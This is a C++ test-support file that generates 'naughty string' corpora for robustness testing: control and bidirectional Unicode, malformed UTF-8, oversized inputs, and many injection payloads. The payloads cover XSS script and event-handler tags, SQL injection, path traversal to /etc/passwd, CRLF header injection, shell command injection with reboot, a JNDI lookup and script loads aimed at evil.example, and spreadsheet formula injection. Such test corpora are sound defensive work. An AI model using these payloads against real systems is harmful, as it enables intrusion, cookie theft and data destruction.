// SPDX-License-Identifier: Apache-2.0
#include "web/naughty_texts.h"

#include "base/files.h"

#include <fmt/format.h>
#include <nlohmann/json.hpp>

#include <cstdlib>
#include <filesystem>

namespace ultima::test {
namespace {

using namespace std::string_literals;

std::string repeated(std::string_view text, std::size_t times) {
    std::string out;
    for (std::size_t i = 0; i < times; ++i) out += text;
    return out;
}

/// A sign of Unicode in UTF-8; numbers that are no sign come out as the bytes that they would be.
std::string sign(std::uint32_t number) {
    const auto byte = [](std::uint32_t bits) { return static_cast<char>(static_cast<unsigned char>(bits)); };
    const auto later = [&](int shift) { return byte(0x80U | ((number >> shift) & 0x3FU)); };
    if (number < 0x80) return {byte(number)};
    if (number < 0x800) return {byte(0xC0U | (number >> 6U)), later(0)};
    if (number < 0x10000) return {byte(0xE0U | (number >> 12U)), later(6), later(0)};
    return {byte(0xF0U | (number >> 18U)), later(12), later(6), later(0)};
}

/// Every control, every sign that turns the order of reading, joins, hides or is no sign at all, each within
/// a word.
void add_signs(std::vector<std::string>& all) {
    const auto add = [&](std::uint32_t first, std::uint32_t last) {
        for (std::uint32_t one = first; one <= last; ++one) all.push_back("be" + sign(one) + "tween");
    };
    add(0x00, 0x1F);
    add(0x7F, 0x9F);
    add(0x2000, 0x200F);
    add(0x2028, 0x202F);
    add(0x205F, 0x206F);
    add(0xFFF9, 0xFFFF);
    for (const std::uint32_t one : {0xA0U,    0xADU,    0x61CU,   0x115FU,  0x1680U,  0x180EU,   0x3000U,
                                    0x3164U,  0xD800U,  0xDFFFU,  0xE000U,  0xFE0FU,  0xFEFFU,   0xFDD0U,
                                    0x1D173U, 0x1FFFEU, 0xE0001U, 0xE0041U, 0xF0000U, 0x10FFFFU, 0x110000U})
        add(one, one);
}

/// Ways to become markup or script, in each kind of place where a text may stand.
void add_markup(std::vector<std::string>& all) {
    for (const char* before : {"", "\"", "'", "\"'>", "--></style></script>", "]]>", "</option></select>",
                               "</textarea>", "</title>", "</noscript>"})
        for (const char* what :
             {"<script>x()</script>", "<svg onload=x()>", "<a href=java\tscript:x()>y</a>",
              "<math><mi xlink:href=data:text/html,x>", "<meta http-equiv=refresh content=0>"})
            all.push_back(std::string(before) + what);
    for (const char* event : {"onclick", "onerror", "onload", "onfocus", "onmouseenter", "onanimationstart",
                              "ontoggle", "onbeforeinput", "formaction", "srcdoc", "style", "xlink:href"})
        all.push_back(std::string("\" ") + event + "=\"x() y=\"");
}

/// What other programs would take for an order, a path, a number or nothing.
void add_others(std::vector<std::string>& all) {
    for (const char* one : {"null",
                            "undefined",
                            "nil",
                            "None",
                            "true",
                            "false",
                            "NULL",
                            "(null)",
                            "\\N",
                            "[object Object]",
                            "__proto__",
                            "constructor",
                            "hasOwnProperty",
                            "toString",
                            "0",
                            "-0",
                            "1e400",
                            "-1e-400",
                            "0x7fffffff",
                            "2147483648",
                            "-2147483649",
                            "9223372036854775808",
                            "18446744073709551616",
                            "1,000.5",
                            "1.000,5",
                            "\xD9\xA1\xD9\xA2\xD9\xA3",
                            "Infinity",
                            "2026-02-30",
                            "2026-13-01",
                            "9999-12-31",
                            "1799-12-31",
                            "24:60",
                            "=1+1",
                            "+1",
                            "@SUM(A1)",
                            "-cmd|' /C calc'!A0",
                            "=HYPERLINK(\"//evil.example\")",
                            "' OR ''='",
                            "\" OR \"\"=\"",
                            "1; DELETE FROM event",
                            "x'); ATTACH 'y' AS z; --",
                            "%27%20OR%201",
                            "\\'; --",
                            "$1 $2 ${x}",
                            "`x`",
                            "; x &",
                            "|| x",
                            "&& x",
                            "<(x)",
                            "> /dev/null",
                            "$(<x)",
                            "%2e%2e%2f",
                            "%252e%252e%252f",
                            "....//....//x",
                            "C:\\con",
                            "file:///x",
                            "\\\\host\\share",
                            "//evil.example",
                            "/\\evil.example",
                            "https:evil.example",
                            "data:text/html,<b>x",
                            "vbscript:x",
                            "%0d%0aX-Other: 1",
                            "%00",
                            "%",
                            "%zz",
                            "%c0%af",
                            "&#0;",
                            "&#x110000;",
                            "&lt",
                            "&amp;lt;",
                            "+ADw-script+AD4-",
                            "{{",
                            "}}",
                            "{{{",
                            "{{/x}}",
                            "{{>x}}",
                            "{{&x}}",
                            "{{!",
                            "[[",
                            "]]",
                            "{}",
                            "{0}",
                            "{n}",
                            "{all}",
                            "%n",
                            "%s",
                            "\\u0000",
                            "\\x00",
                            "\\0",
                            "\"",
                            "'",
                            "\\",
                            "/",
                            "<",
                            ">",
                            "&",
                            ";",
                            "#",
                            "?",
                            "=",
                            ",",
                            "---",
                            "***",
                            "| a | b |",
                            "```",
                            "~~~",
                            "![x](//evil.example)",
                            "[x](javascript:x)",
                            "msgid \"x\""})
        all.emplace_back(one);
    for (const std::size_t many : {255U, 256U, 1023U, 1024U, 4096U, 65'536U})
        all.push_back(repeated("\xF0\x9F\x92\xA9", many / 4) + "x");
    all.push_back(repeated("<b>", 5'000));
    all.push_back(repeated("{{#x}}", 2'000));
    all.push_back(repeated("\n", 3'000) + "x");
    all.push_back("x" + repeated("\xCC\x81", 2'000));
    all.push_back(
        repeated("\xE2\x80\xAE"
                 "x",
                 200));
}

}  // namespace

const std::vector<std::string>& naughty_texts_made() {
    static const std::vector<std::string> made = [] {
        std::vector<std::string> all;
        add_signs(all);
        add_markup(all);
        add_others(all);
        return all;
    }();
    return made;
}

const std::vector<std::string>& naughty_texts() {
    static const std::vector<std::string> all{
        "<script>alert(1)</script>",
        "\"><script src=//evil.example/x.js></script>",
        "'><img src=x onerror=alert(1)>",
        "\" onmouseover=\"alert(1)\" x=\"",
        "' autofocus onfocus=alert(1) '",
        "</textarea></select></form><form action=//evil.example method=post>",
        "</title><svg/onload=alert(1)>",
        "<!-- --><iframe srcdoc=\"&lt;script&gt;\">",
        "javascript:alert(document.cookie)",
        "&lt;b&gt; &amp;amp; &#60;script&#62;",
        "{{token}} {{{content}}} {{#list}}{{/list}} [[Sign in]]",
        "{{=<% %>=}}<% token %>",
        "'; DROP TABLE event; --",
        "1' OR '1'='1",
        "x' UNION SELECT name, password FROM account --",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd\0.html"s,
        "a\r\nSet-Cookie: ultima=stolen\r\n\r\n<html>",
        "one\nline: more\n\n- lines",
        "%s%n%x{}{0}{:>99999999}",
        "$(reboot) `reboot` ; reboot | reboot",
        "${jndi:ldap://evil.example/a} #{7*7} <%= 7*7 %>",
        "\xE2\x80\xAE"
        "txt.exe \xE2\x80\x8F \xE2\x81\xA6 isolated",
        "\xEF\xBB\xBF"
        "begins with a mark of order",
        "zero\xE2\x80\x8B"
        "width\xE2\x80\x8D"
        "joined\xC2\xA0"
        "blank",
        "\xED\xA0\x80 half of a pair",
        "\xC0\xAF overlong, \xFF\xFE no text at all",
        "\xF0\x9F\x92\xA9\xF0\x9F\x87\xBA\xF0\x9F\x87\xB3 \xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x9A\x80",
        "\xD8\xA7\xD9\x84\xD8\xB9\xD8\xB1\xD8\xA8\xD9\x8A\xD8\xA9 \xD7\xA2\xD7\x91\xD7\xA8\xD7\x99\xD7\xAA "
        "123",
        "Z" + repeated("\xCC\x8D\xCC\xA9\xCD\x9C", 60) + "algo",
        "\x01\x02\x07\x08\x0B\x1B[31m\x7F control",
        "99999999999999999999999999",
        "-1",
        "NaN",
        "0000-00-00",
        repeated("long ", 20'000),
        "   ",
    };
    return all;
}

const std::vector<std::string>& naughty_texts_of_others() {
    static const std::vector<std::string> all = [] {
        const char* data = std::getenv("ULTIMA_DATA");
        const std::filesystem::path folder =
            data != nullptr ? std::filesystem::path(data)
                            : std::filesystem::path(ULTIMA_SOURCE_DIR) / ".." / "shared" / "data";
        const auto path = folder / "security" / "blns_half.json";
        std::vector<std::string> texts;
        if (const auto file = read_file(path, 1U << 20U))
            texts = nlohmann::json::parse(*file).get<std::vector<std::string>>();
        else
            fmt::print(
                "SKIPPED: there are no naughty strings of others (ULTIMA_DATA/security/blns_half.json)\n");
        return texts;
    }();
    return all;
}

}  // namespace ultima::test
